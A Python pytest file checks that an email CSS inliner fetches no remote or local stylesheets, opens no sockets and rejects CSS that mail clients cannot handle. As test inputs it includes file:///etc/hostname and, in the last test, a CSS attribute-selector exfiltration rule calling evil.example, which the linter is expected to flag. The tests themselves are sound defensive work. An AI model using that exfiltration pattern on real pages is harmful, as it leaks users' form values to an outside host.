import subprocess
import sys

import pytest

from feeds.errors import TemplateInvalid
from feeds.rendering.css_lint import lint_addresses, lint_client_css, lint_css
from feeds.rendering.inlining import inline
from feeds.rendering.loading import templates_root
from tests.rendering.givens import ARABIC, PICTURE, TEMPLATES, digest, entries

HEAD = "<!doctype html><html><head>{}</head><body><p class='a'>x</p></body></html>"
LISTENING: list[list[str]] = []  # an audit hook stays for good, so it notes only while a list is here


def note(event, arguments):
    if LISTENING and event == "open" and isinstance(arguments[0], str):
        LISTENING[-1].append(arguments[0])
    elif LISTENING and event.startswith(("socket.", "subprocess.", "os.system")):
        LISTENING[-1].append(event)


sys.addaudithook(note)


def reached_by(action):
    """Return the files and sockets that an action opens, what a first run loads and keeps aside."""
    inline(HEAD.format(""), "p { color: red; }")
    LISTENING.append([])
    try:
        action()
    finally:
        seen = LISTENING.pop()
    return seen


def test_rules_go_into_style_attributes_and_the_doctype_comes_first():
    html = inline(HEAD.format(""), ".a { color: #0b5563; }")
    assert html.startswith("<!DOCTYPE html>\n<html>")
    assert '<p class="a" style="color:#0b5563">x</p>' in html


@pytest.mark.rule("M13")
def test_style_that_is_kept_out_keeps_its_importance():
    kept = "@media (max-width: 9px) { .a { color: red !important; } } [data-ogsc] .a { color: blue !important; }"
    html = inline(HEAD.format(f'<style data-premailer="ignore">{kept}</style>'), ".a { color: #000000; }")
    assert f"<style>{kept}</style>" in html


def test_width_and_height_of_a_picture_stay_as_the_template_wrote_them():
    html = inline(HEAD.replace("x", '<img src="a.jpg" width="544">').format(""), "img { width: 100%; height: auto; }")
    assert 'width="544" style="width:100%; height:auto"' in html
    assert 'height="' not in html


@pytest.mark.rule("T65")
def test_linked_stylesheet_is_not_fetched():
    link = '<link rel="stylesheet" href="http://127.0.0.1:9/a.css">'
    assert reached_by(lambda: inline(HEAD.format(link), "p { color: red; }")) == []


@pytest.mark.rule("T66")
@pytest.mark.parametrize("address", ["http://127.0.0.1:9/a.css", "file:///etc/hostname"])
def test_import_in_a_style_element_is_not_followed(address):
    style = f"<style>@import url({address}); @import '{address}'; p {{ color: red; }}</style>"
    assert reached_by(lambda: inline(HEAD.format(style), ".a { color: blue; }")) == []


@pytest.mark.rule("T66")
def test_import_in_our_own_stylesheet_is_refused():
    with pytest.raises(TemplateInvalid, match="line 1: @import"):
        inline(HEAD.format(""), "@import 'https://x.example/a.css';")


@pytest.mark.rule("T67")
@pytest.mark.parametrize("path", ["/etc/hostname", "file:///etc/hostname", "style.css"])
def test_local_stylesheet_is_not_read(path):
    link = f'<link rel="stylesheet" href="{path}">'
    assert reached_by(lambda: inline(HEAD.format(link), "p { color: red; }")) == []


@pytest.mark.rule("T65")
def test_rendering_a_digest_opens_no_socket_and_only_template_files():
    digest()
    seen = reached_by(lambda: digest(entries=(*entries(3, image=PICTURE), ARABIC)))
    assert seen
    assert [path for path in seen if not path.startswith(str(templates_root()))] == []


def test_inliner_is_loaded_only_when_it_is_used():
    code = "import sys, feeds.rendering.digest; print([m for m in ('premailer', 'cssutils') if m in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"


@pytest.mark.rule("M13")
def test_own_stylesheet_passes_the_lint():
    assert lint_css(TEMPLATES.text("digest/style.css")) == []
    assert lint_client_css(TEMPLATES.text("digest/client.css") + TEMPLATES.text("digest/dark.css")) == []


@pytest.mark.parametrize(
    ("css", "mistake"),
    [
        (".a .b { color: red; }", "line 1: .a .b: only an element or a class"),
        ("/* one\ntwo */\n.a, p > b { color: red; }", "line 3: p > b: only an element or a class"),
        ("a:hover { color: red; }", "line 1: a:hover: only an element or a class"),
        ("[dir] { color: red; }", "line 1: [dir]: only"),
        ("@media print { p { color: red; } }", "line 1: @media cannot be inlined"),
        ("p {\n  color: red !important;\n}", "line 2: color: red !important: !important means nothing"),
        ("p { color: var(--ink); }", "line 1: color: var(--ink): mail clients do not know"),
    ],
)
def test_css_that_cannot_be_inlined_is_named_with_its_line(css, mistake):
    assert any(found.startswith(mistake) for found in lint_css(css))


@pytest.mark.rule("T29")
def test_css_may_load_only_from_its_own_place():
    assert len(lint_addresses('p { background: url("https://evil.example/?a=1"); }')) == 1
    assert len(lint_addresses("input[value^='a'] { background: url(//evil.example/a); }")) == 1
    assert len(lint_addresses("@IMPORT 'x.css';")) == 1
    assert lint_addresses("p { background: url(data:image/png;base64,AAAA); }") == []
    assert lint_addresses("p { background: url('https://own.example/a.png'); }", own="https://own.example/") == []
